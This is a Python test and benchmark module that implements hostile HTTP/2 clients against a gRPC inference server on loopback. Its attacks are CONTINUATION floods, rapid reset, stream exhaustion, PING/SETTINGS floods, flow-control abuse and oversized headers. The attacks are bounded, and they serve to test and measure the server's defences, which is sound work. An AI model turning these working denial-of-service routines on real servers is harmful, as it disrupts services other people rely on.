"""Hostile HTTP/2 clients for the gRPC port (what is watched while one runs: ``h2_watch``).

Each attack is one TCP connection on loopback that misbehaves for a bounded time
and count: frames are built with ``hyperframe`` (h2's own frame layer) and
``hpack``, or, where the attacker must keep to flow control to reach the limit
under test, with an ``h2`` client connection.

Used by ``tests/ingress/grpc/test_h2_limits_e2e.py`` (short attacks, asserted) and
``deploy/benchmarks/grpc_attacks.py`` (the 8-second attacks of issue 29, measured).
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import hpack
import numpy as np
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVICE = "/inference.GRPCInferenceService/"
REFUSED_STREAM, ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR, PROTOCOL_ERROR = 0x7, 0xB, 0x3, 0x1


# --------------------------------------------------------------------------- frames

def frame(f: Frame) -> bytes:
    return bytes(f.serialize())


def headers_frame(stream: int, block: bytes, *, end_headers: bool = True, end_stream: bool = False) -> bytes:
    flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
    return frame(HeadersFrame(stream, data=block, flags=flags))


def data_frame(stream: int, payload: bytes, *, end_stream: bool = False) -> bytes:
    return frame(DataFrame(stream, data=payload, flags=["END_STREAM"] if end_stream else []))


def message(body: bytes, declared: int | None = None) -> bytes:
    """gRPC's length-prefixed message; ``declared`` overrides the length in the prefix."""
    return b"\0" + (len(body) if declared is None else declared).to_bytes(4, "big") + body


def request_headers(method: str, authority: str = "attack") -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")]


def simple_request() -> bytes:
    """A serialized ModelInferRequest for ``simple`` (two INT32 [1, 16] inputs)."""
    from conveyor.proto import grpc_service_pb2 as pb

    request = pb.ModelInferRequest(model_name="simple")
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype="INT32", shape=[1, 16])
        request.raw_input_contents.append(np.arange(16, dtype=np.int32).tobytes())
    return bytes(request.SerializeToString())


# --------------------------------------------------------------------------- the attacker's connection

@dataclass
class Outcome:
    """What one attack did and what the server answered."""

    name: str
    sent: int = 0  # the attack's unit: frames, streams or calls
    seconds: float = 0.0
    closed: bool = False  # the server closed the connection (or reset it)
    stalled: bool = False  # a send waited for the socket's timeout: the server stopped reading
    goaway: int | None = None  # the error code of the server's GOAWAY, when one was read
    refused: int = 0  # RST_STREAM REFUSED_STREAM received
    resets: dict[int, int] = field(default_factory=dict)  # RST_STREAM codes received, counted
    trailers: list[bytes] = field(default_factory=list)  # raw trailer blocks seen (decoded lazily)
    statuses: list[str] = field(default_factory=list)  # grpc-status values read from trailers
    messages: list[str] = field(default_factory=list)  # grpc-message values read from trailers


class Attacker:
    """One raw HTTP/2 connection; a reader thread parses what the server sends (unless ``read=False``,
    the peer that does not read)."""

    def __init__(self, port: int, name: str, *, read: bool = True, rcvbuf: int | None = None,
                 settings: dict[int, int] | None = None) -> None:
        self.outcome = Outcome(name)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(5.0)
        self.sock.connect(("127.0.0.1", port))
        self.encoder = hpack.Encoder()
        self._decoder = hpack.Decoder()
        self.window_updates = 0  # WINDOW_UPDATE frames read (flow-control credit given)
        self._closing = False  # our own close: what the reader sees then is not the server's doing
        self._reader: threading.Thread | None = None
        self.send(PREFACE + frame(SettingsFrame(0, settings=settings or {})))
        self._acknowledge_settings()
        if read:
            self._reader = threading.Thread(target=self._read, daemon=True)
            self._reader.start()

    def _acknowledge_settings(self) -> None:
        """Read the server's SETTINGS (its first frame) and acknowledge it, as a client does before it
        counts on the windows and limits it sets (nghttp2 holds a client to HTTP/2's defaults until then).
        What follows it stays in the socket for the reader."""
        def exactly(n: int) -> bytes:
            out = b""
            while len(out) < n:
                got = self.sock.recv(n - len(out))
                if not got:
                    raise ConnectionError("the server closed before its SETTINGS")
                out += got
            return out

        head = exactly(9)
        exactly(int.from_bytes(head[:3], "big"))
        assert head[3] == 0x4, head  # SETTINGS
        self.send(frame(SettingsFrame(0, flags=["ACK"])))

    def block(self, fields: list[tuple[str, str]]) -> bytes:
        return bytes(self.encoder.encode(fields))

    def send(self, data: bytes) -> bool:
        """False once the server has closed the connection (or stopped reading for 5 s)."""
        if self.outcome.closed or self.outcome.stalled:
            return False
        try:
            self.sock.sendall(data)
            return True
        except TimeoutError:  # the server stopped reading
            self.outcome.stalled = True
            return False
        except OSError:  # reset, broken pipe
            self.outcome.closed = True
            return False

    def _read(self) -> None:
        buf = bytearray()
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                if not self._closing:
                    self.outcome.closed = True
                return
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                f, _ = Frame.parse_frame_header(memoryview(bytes(buf[:9])))
                f.parse_body(memoryview(bytes(buf[9:9 + length])))
                del buf[:9 + length]
                self._frame(f)

    def _frame(self, f: Frame) -> None:
        o = self.outcome
        if isinstance(f, GoAwayFrame):
            o.goaway = f.error_code
        elif isinstance(f, RstStreamFrame):
            o.resets[f.error_code] = o.resets.get(f.error_code, 0) + 1
            o.refused += f.error_code == REFUSED_STREAM
        elif isinstance(f, WindowUpdateFrame):
            self.window_updates += 1
        elif isinstance(f, HeadersFrame):
            try:
                fields = {str(k): str(v) for k, v in self._decoder.decode(f.data)}  # str: hpack's default
            except Exception:
                return
            if "grpc-status" in fields and len(o.statuses) < 10_000:
                o.statuses.append(fields["grpc-status"])
                o.messages.append(fields.get("grpc-message", ""))

    def close(self) -> None:
        self._closing = True
        try:
            # Now: a close alone waits for the reader's recv to time out (5 s) before the kernel sends the FIN.
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        try:
            self.sock.close()
        except OSError:
            pass


def flood(attacker: Attacker, seconds: float, batch: Callable[[int], bytes], limit: int) -> Outcome:
    """Send ``batch(n)`` (the n-th write) until ``seconds`` pass, ``limit`` writes are made or the
    server closes; then hold the connection open for what is left of ``seconds`` (the attack's
    effect is measured over that whole time). ``outcome.sent`` is counted by the batches."""
    start = time.monotonic()
    n = 0
    while n < limit and time.monotonic() - start < seconds:
        if not attacker.send(batch(n)):
            break
        n += 1
    while not attacker.outcome.closed and time.monotonic() - start < seconds:
        time.sleep(0.05)
    attacker.outcome.seconds = time.monotonic() - start
    return attacker.outcome


def streams(first: int = 1) -> Iterator[int]:
    sid = first
    while sid < 1 << 31:
        yield sid
        sid += 2


# --------------------------------------------------------------------------- the attacks

def continuation_flood(port: int, seconds: float, per_write: int = 1000, limit: int = 300_000) -> Outcome:
    """HEADERS without END_HEADERS, then empty CONTINUATION frames that never end the block."""
    a = Attacker(port, "continuation")
    block = a.block(request_headers("ModelInfer"))
    a.send(headers_frame(1, block[:4], end_headers=False))
    cont = frame(ContinuationFrame(1, data=b"")) * per_write

    def batch(n: int) -> bytes:
        a.outcome.sent += per_write
        return cont

    try:
        return flood(a, seconds, batch, limit // per_write)
    finally:
        a.close()


def rapid_reset(port: int, seconds: float, per_write: int = 200, limit: int = 60_000) -> Outcome:
    """HEADERS on ModelStreamInfer and RST_STREAM right after, ``per_write`` streams per write."""
    a = Attacker(port, "rapid_reset")
    ids = streams()

    def batch(n: int) -> bytes:
        out = []
        for _ in range(per_write):
            sid = next(ids)
            out += [headers_frame(sid, a.block(request_headers("ModelStreamInfer"))),
                    frame(RstStreamFrame(sid, error_code=0x8))]
        a.outcome.sent += per_write
        return b"".join(out)

    try:
        return flood(a, seconds, batch, limit // per_write)
    finally:
        a.close()


def open_streams(port: int, seconds: float, per_write: int = 200, limit: int = 60_000) -> Outcome:
    """HEADERS on ModelStreamInfer that never send DATA, ``per_write`` per write."""
    a = Attacker(port, "open_streams")
    ids = streams()

    def batch(n: int) -> bytes:
        a.outcome.sent += per_write
        return b"".join(headers_frame(next(ids), a.block(request_headers("ModelStreamInfer")))
                        for _ in range(per_write))

    try:
        return flood(a, seconds, batch, limit // per_write)
    finally:
        a.close()


def declared_length(port: int, seconds: float, declared: int = 60 << 20, per_write: int = 200,
                    limit: int = 10_000) -> Outcome:
    """ModelInfer calls whose message declares ``declared`` bytes and sends only the 5-byte prefix."""
    a = Attacker(port, "declared_length")
    ids = streams()
    prefix = message(b"", declared)

    def batch(n: int) -> bytes:
        out = []
        for _ in range(per_write):
            sid = next(ids)
            out += [headers_frame(sid, a.block(request_headers("ModelInfer"))), data_frame(sid, prefix)]
        a.outcome.sent += per_write
        return b"".join(out)

    try:
        return flood(a, seconds, batch, limit // per_write)
    finally:
        a.close()


def control_flood(port: int, seconds: float, kind: str, per_write: int = 1000, limit: int = 300_000,
                  read: bool = False) -> Outcome:
    """PING (``kind="ping"``) or SETTINGS (``"settings"``) frames, each of which the server must
    acknowledge; unless ``read``, from a peer that never reads (and keeps its receive buffer small)."""
    a = Attacker(port, f"{kind}_noread" if not read else kind, read=read, rcvbuf=None if read else 4096)
    one = frame(PingFrame(0, opaque_data=b"12345678")) if kind == "ping" else frame(SettingsFrame(0, settings={
        0x4: 65535}))
    data = one * per_write

    def batch(n: int) -> bytes:
        a.outcome.sent += per_write
        return data

    try:
        return flood(a, seconds, batch, limit // per_write)
    finally:
        a.close()


def window_overrun(port: int, seconds: float, per_write: int = 200, limit: int = 100_000,
                   body: bytes = b"\xff" * 64) -> Outcome:
    """ModelStreamInfer requests that ignore flow control: the client gives the server no window
    to answer in (SETTINGS_INITIAL_WINDOW_SIZE 0), so the call's replies wait, its handler stops
    taking requests, and the server stops crediting the stream; the requests keep coming anyway.
    ``body``: each request message (by default one protobuf cannot parse: answered in-band at once,
    without a model)."""
    a = Attacker(port, "window_overrun", settings={0x4: 0})
    a.send(headers_frame(1, a.block(request_headers("ModelStreamInfer"))))
    one = data_frame(1, message(body))

    def batch(n: int) -> bytes:
        a.outcome.sent += per_write
        return one * per_write

    try:
        return flood(a, seconds, batch, limit // per_write)
    finally:
        a.close()


def identity_request(size: int) -> bytes:
    """A serialized ModelInferRequest for ``identity_fp32`` with ``size`` bytes of FP32."""
    from conveyor.proto import grpc_service_pb2 as pb

    request = pb.ModelInferRequest(model_name="identity_fp32")
    request.inputs.add(name="INPUT0", datatype="FP32", shape=[size // 4])
    request.raw_input_contents.append(b"\0" * size)
    return bytes(request.SerializeToString())


def unread_responses(port: int, seconds: float, size: int = 256 << 10, limit: int = 200) -> Outcome:
    """ModelInfer calls of ``size`` bytes each (identity_fp32: as large an answer) from a peer that
    gives the server large windows and never reads: only the server's own pause stops it."""
    a = Attacker(port, "unread_responses", read=False, rcvbuf=4096, settings={0x4: (1 << 31) - 1})
    a.send(frame(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535)))
    wire = message(identity_request(size))
    ids = streams()

    def batch(n: int) -> bytes:
        sid = next(ids)
        out = [headers_frame(sid, a.block(request_headers("ModelInfer")))]
        for pos in range(0, len(wire), 16384):  # the server's SETTINGS_MAX_FRAME_SIZE
            out.append(data_frame(sid, wire[pos:pos + 16384], end_stream=pos + 16384 >= len(wire)))
        a.outcome.sent += 1
        return b"".join(out)

    a.sock.settimeout(2.0)  # a send that waits this long: the server stopped reading
    try:
        return flood(a, seconds, batch, limit)
    finally:
        a.close()


def oversized_headers(port: int, seconds: float, size: int = 200 << 10, limit: int = 200) -> Outcome:
    """A header list of ``size`` bytes (many metadata entries) on each new connection."""
    outcome = Outcome("oversized_headers")
    start = time.monotonic()
    while outcome.sent < limit and time.monotonic() - start < seconds:
        a = Attacker(port, "oversized_headers")
        fields = request_headers("ModelInfer") + [(f"x-pad-{i}", "v" * 1000) for i in range(size // 1000)]
        block = bytes(hpack.Encoder().encode(fields))  # literal, not indexed: the full size goes on the wire
        # Split into CONTINUATION frames of 16 KiB (SETTINGS_MAX_FRAME_SIZE's default).
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        wire = headers_frame(1, pieces[0], end_headers=len(pieces) == 1)
        for i, piece in enumerate(pieces[1:], 1):
            wire += frame(ContinuationFrame(1, data=piece, flags=["END_HEADERS"] if i == len(pieces) - 1 else []))
        a.send(wire)
        deadline = time.monotonic() + 5
        while not a.outcome.closed and time.monotonic() < deadline:
            time.sleep(0.01)
        outcome.sent += 1
        outcome.closed = a.outcome.closed
        outcome.goaway = a.outcome.goaway if a.outcome.goaway is not None else outcome.goaway
        a.close()
    outcome.seconds = time.monotonic() - start
    return outcome


def unfinished_messages(port: int, seconds: float, streams_n: int = 200, declared: int = 60 << 20,
                        limit_bytes: int = 4 << 30, stop: threading.Event | None = None) -> Outcome:
    """ModelInfer calls that each send real bytes of a ``declared``-byte message and never finish
    it, keeping to flow control (an ``h2`` client), on ``streams_n`` streams in turn.

    Once ``limit_bytes`` are sent the connection stays open, holding what it sent, until
    ``seconds`` pass or ``stop`` is set; the first grpc-status read sets ``stop``, so that attackers
    sharing it hold their bytes at the same time and end together."""
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions

    outcome = Outcome("unfinished_messages")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.settimeout(0.05)
    chunk = b"\x01" * 16384
    start = time.monotonic()
    ids: list[int] = []
    sent_bytes = 0
    try:
        sock.sendall(conn.data_to_send())
        for _ in range(streams_n):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, request_headers("ModelInfer"))
            conn.send_data(sid, message(b"", declared))
            ids.append(sid)
        sock.sendall(conn.data_to_send())
        i = 0
        live = set(ids)
        while live and time.monotonic() - start < seconds and not (stop is not None and stop.is_set()):
            try:
                got = sock.recv(1 << 16)
                if not got:
                    outcome.closed = True
                    break
                for event in conn.receive_data(got):
                    if isinstance(event, h2.events.StreamReset):
                        live.discard(event.stream_id)
                        outcome.resets[event.error_code] = outcome.resets.get(event.error_code, 0) + 1
                    elif isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                        fields = dict(event.headers)
                        if b"grpc-status" in fields:
                            outcome.statuses.append(fields[b"grpc-status"].decode())
                            outcome.messages.append(fields.get(b"grpc-message", b"").decode())
                            if stop is not None:
                                stop.set()
                        if event.stream_ended is not None:
                            live.discard(event.stream_id)
                    elif isinstance(event, h2.events.StreamEnded):
                        live.discard(event.stream_id)
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        outcome.goaway = event.error_code
                        outcome.closed = True
            except TimeoutError:
                pass
            except (OSError, h2.exceptions.ProtocolError):
                outcome.closed = True
                break
            if outcome.closed:
                break
            # Fill each live stream's window in turn, a frame at a time.
            for _ in range(64):
                if not live or sent_bytes >= limit_bytes:
                    break
                sid = ids[i % len(ids)]
                i += 1
                if sid not in live:
                    continue
                try:
                    room = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
                except h2.exceptions.StreamClosedError:
                    live.discard(sid)
                    continue
                if room >= len(chunk):
                    conn.send_data(sid, chunk)
                    sent_bytes += len(chunk)
                    outcome.sent += len(chunk)
            data = conn.data_to_send()
            if data:
                try:
                    sock.sendall(data)
                except OSError:
                    outcome.closed = True
                    break
    finally:
        outcome.seconds = time.monotonic() - start
        sock.close()
    return outcome
